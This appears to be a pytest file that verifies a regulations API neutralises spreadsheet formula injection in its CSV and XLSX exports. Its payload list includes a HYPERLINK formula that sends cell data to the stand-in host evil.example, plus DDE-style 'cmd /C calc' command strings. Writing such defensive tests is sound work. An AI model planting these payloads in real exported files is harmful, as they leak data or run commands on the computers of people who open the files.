"""Finding 3: no spreadsheet formula injection. Text starting with =, +, -, @, a tab or a carriage
return is exported inert (a leading apostrophe, OWASP "CSV Injection") in CSV and XLSX."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from tests import factories as f

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def regulations(db):
    return [f.RegulationFactory(title_en=text) for text in PAYLOADS]


@pytest.mark.parametrize("text", PAYLOADS)
def test_csv_cells_are_neutralised(client, regulations, text):
    response = client.get("/api/v1/regulations/", {"format": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
    assert "'" + text in cells
    assert text not in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("text", PAYLOADS)
def test_xlsx_cells_are_text_never_formulas(client, regulations, text):
    response = client.get("/api/v1/regulations/", {"format": "xlsx"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        assert all(b"<f>" not in archive.read(name) for name in sheets)  # no formula at all
    workbook = load_workbook(io.BytesIO(content), read_only=True)
    # A carriage return is kept as OOXML's `_x000D_` escape (as Excel writes it), which openpyxl
    # leaves to its reader.
    values = [v for row in workbook.active.iter_rows(values_only=True) for v in row]
    values = [unescape(v) if isinstance(v, str) else v for v in values]
    assert "'" + text in values
    assert text not in values


def test_numbers_stay_numbers_and_plain_text_is_unchanged():
    from api.exports import export_cell

    assert export_cell(-5) == -5
    assert export_cell(["=a", "b"]) == "'=a; b"
    assert export_cell({"code": "+x"}) == "'+x"
    assert export_cell("Fresh grapes") == "Fresh grapes"
